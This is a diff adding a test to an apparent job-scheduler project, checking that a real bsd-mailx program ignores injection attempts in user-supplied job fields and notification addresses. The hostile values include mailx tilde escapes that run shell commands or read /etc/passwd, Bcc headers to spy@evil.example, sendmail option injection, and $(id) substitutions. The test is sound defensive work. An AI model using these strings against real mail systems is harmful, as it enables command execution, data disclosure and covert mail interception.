@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import asyncio
 import base64
+import email
 import json
 import logging
 import os
@@ -337,6 +338,60 @@ async def test_a_hostile_address_gets_no_mail_and_the_job_completes(
     assert len(await program.until(1)) == 1
     (line,) = [r.getMessage() for r in caplog.records if "not an address" in r.getMessage()]
     assert line.startswith(f"{evil}.0: no mail is sent to -X/tmp/log@x.org, ") and "\n" not in line
+
+
+#: The mail program of Debian, with a sendmail that writes down its words and its input in place of the host's.
+MAILX = """#!/bin/sh
+cd {box} && HOME={box} exec bsd-mailx "$@"
+"""
+SENDMAIL = """#!/bin/sh
+set -- "$@"
+for word; do echo "word $word"; done > {box}/words.$$
+cat > {box}/text.$$ && mv {box}/text.$$ {box}/$$.sent
+"""
+#: What mail programs take for commands, headers, options and the end of a mail, in any text of a user's.
+HOSTILE = (
+    "~!touch escaped\n~r /etc/passwd\n~b spy@evil.example\nBcc: spy@evil.example\n\n.\n~|sh\r\nCc: spy@evil.example\r\n"
+)
+
+
+@host.needs(host.programs("bsd-mailx"))
+@pytest.mark.parametrize(
+    "addresses",
+    [
+        "ann@x.org,-oQ/tmp@x.org,|sh,/tmp/escaped,+escaped,~/escaped",
+        "ann@x.org -bs@x.org -s bob@x.org\nBcc:spy@evil.example",
+        "ann@x.org,~!sh,:include:/etc/passwd,bob@x.org;spy@evil.example,%root,`id`@x.org,$(id)@x.org",
+    ],
+)
+async def test_a_real_mail_program_does_nothing_of_what_users_write(
+    world: World, tmp_path: Path, addresses: str
+) -> None:
+    box = tmp_path / "box"
+    box.mkdir()
+    for name, text in (("mailx", MAILX), ("sendmail", SENDMAIL)):
+        (tmp_path / name).write_text(text.format(box=box))
+        (tmp_path / name).chmod(0o755)
+    (box / ".mailrc").write_text(f"set sendmail={tmp_path}/sendmail\n")
+    await world.start(SENDMAIL="", MAIL=str(tmp_path / "mailx"), MAIL_FROM="pool@x.org")
+    cluster = await world.run(
+        JobNotification=COMPLETE, NotifyUser=addresses, Cmd=f"/bin/{HOSTILE}", Args=HOSTILE,
+        JobBatchName=HOSTILE, EmailAttributes=f"Evil,JobBatchName,{HOSTILE}", Evil=HOSTILE, Iwd=str(box),
+    )  # fmt: skip
+    await until(lambda: list(box.glob("*.sent")), "the mail is sent")
+    (sent,) = box.glob("*.sent")
+    found = email.message_from_bytes(sent.read_bytes())
+    (words,) = box.glob("words.*")
+    assert words.read_text().splitlines() == ["word -i", "word -t", "word -f", "word pool@x.org"]
+    assert {name.lower() for name in found} <= {
+        "from", "to", "subject", "mime-version", "content-type", "content-transfer-encoding",
+    }  # fmt: skip
+    assert found["To"] == "ann@x.org"
+    assert found["Subject"] == f"[Condor] Condor Job {cluster}.0"
+    body = str(found.get_payload())
+    assert "~!touch escaped" in body and "Questions about this message" in body, "the texts are there, as texts"
+    assert "root:x:0" not in body
+    assert sorted(path.name for path in box.iterdir()) == sorted([".mailrc", sent.name, words.name])
 
 
 @pytest.mark.parametrize(
